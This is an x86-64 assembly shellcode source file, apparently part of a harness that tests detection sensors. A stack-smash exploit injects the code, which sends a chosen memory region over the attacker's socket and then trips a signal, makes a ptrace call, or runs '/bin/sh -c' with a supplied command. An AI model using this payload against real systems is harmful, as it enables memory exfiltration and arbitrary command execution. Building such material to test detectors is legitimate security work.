/* SPDX-License-Identifier: GPL-2.0 */
/*
 * The code that the stack smash injects: position independent, entered with
 * the stack pointer at its own first byte. It sends what the parameters name,
 * one half by write(2) and the other by sendto(2), waits if told to, and then
 * does what the build chose by -DTRIP_...: each one alarms another sensor.
 * The exploit appends the parameters at the label params (lib_exploit.py).
 */
#include <asm/unistd.h>

#define P_FD		0	/* socket of the attacker */
#define P_ADDRESS	8	/* what to send */
#define P_LENGTH	16
#define P_WAIT		24	/* a timespec; zero: do not wait at all */
#define P_COMMAND	40	/* for /bin/sh -c, ends with NUL */

	.text
	.globl	_start
_start:
	cld
	lea	params(%rip), %rbx

	mov	P_FD(%rbx), %edi
	mov	P_ADDRESS(%rbx), %rsi
	mov	P_LENGTH(%rbx), %rdx
	shr	%rdx
	mov	$__NR_write, %eax
	syscall

	mov	P_FD(%rbx), %edi
	mov	P_LENGTH(%rbx), %rdx
	mov	%rdx, %rsi
	shr	%rsi
	sub	%rsi, %rdx
	add	P_ADDRESS(%rbx), %rsi
	xor	%r10d, %r10d
	xor	%r8d, %r8d
	xor	%r9d, %r9d
	mov	$__NR_sendto, %eax
	syscall

	mov	P_WAIT(%rbx), %rax
	or	P_WAIT+8(%rbx), %rax
	jz	trip
	lea	P_WAIT(%rbx), %rdi
	xor	%esi, %esi
	mov	$__NR_nanosleep, %eax
	syscall
trip:

#if defined(TRIP_NULL)		/* SIGSEGV */
	xor	%eax, %eax
	mov	%eax, (%rax)
#elif defined(TRIP_UD2)		/* SIGILL */
	ud2
#elif defined(TRIP_INT3)	/* SIGTRAP */
	int3
#elif defined(TRIP_DIVIDE)	/* SIGFPE */
	xor	%ecx, %ecx
	mov	$1, %eax
	cltd
	idiv	%ecx
#elif defined(TRIP_ABORT)	/* SIGABRT, raised as abort(3) does */
	mov	$__NR_getpid, %eax
	syscall
	mov	%eax, %edi
	mov	$__NR_gettid, %eax
	syscall
	mov	%eax, %esi
	mov	$6, %edx
	mov	$__NR_tgkill, %eax
	syscall
#elif defined(TRIP_PTRACE)	/* a system call that a server never makes */
	xor	%edi, %edi
	xor	%esi, %esi
	xor	%edx, %edx
	xor	%r10d, %r10d
	mov	$__NR_ptrace, %eax
	syscall
#elif defined(TRIP_SHELL)	/* another program takes over */
	lea	shell(%rip), %rdi
	lea	option(%rip), %rsi
	lea	P_COMMAND(%rbx), %rdx
	push	$0
	push	%rdx
	push	%rsi
	push	%rdi
	mov	%rsp, %rsi
	xor	%edx, %edx
	mov	$__NR_execve, %eax
	syscall
#else
#error "choose one of the TRIP_ macros"
#endif

	mov	$7, %edi
	mov	$__NR_exit_group, %eax
	syscall

shell:	.asciz	"/bin/sh"
option:	.asciz	"-c"
	.balign	8
params:
